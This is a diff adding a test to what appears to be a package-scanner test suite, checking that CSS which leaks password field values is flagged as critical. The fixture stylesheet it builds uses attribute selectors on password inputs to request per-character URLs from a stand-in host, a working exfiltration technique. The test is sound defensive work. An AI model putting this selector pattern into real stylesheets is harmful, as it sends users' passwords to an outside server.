@@ -73,6 +73,19 @@ describe('a stylesheet that reads secret fields through attribute selectors (rou
     );
     expect(ruleOf(r, 'text.css-value-leak')).toBeDefined();
   });
+  it('reports the same rules shipped as a stylesheet the component imports', () => {
+    const rules = [...'abc123'].map(
+      (c) =>
+        `input[type="password"][value$="${c}"]{background-image:url("https://fonts-aurora.example/i/${c}.woff2")}`,
+    );
+    const r = analyzeSource({
+      'package.json': manifest('aurora-inputs', { main: 'dist/index.js', type: 'module' }),
+      'dist/index.js': "import './aurora.css';\nexport const classes = { input: 'au-input' };",
+      'dist/aurora.css': ['.au-input{border:1px solid #ccc}', ...rules].join('\n'),
+    });
+    expect(ruleOf(r, 'text.css-value-leak')?.file).toBe('dist/aurora.css');
+    expect(r.risk_level).toBe('critical');
+  });
   it('leaves value selectors with inline icons, and a placeholder style, alone', () => {
     const r = analyzeSource(
       theme(
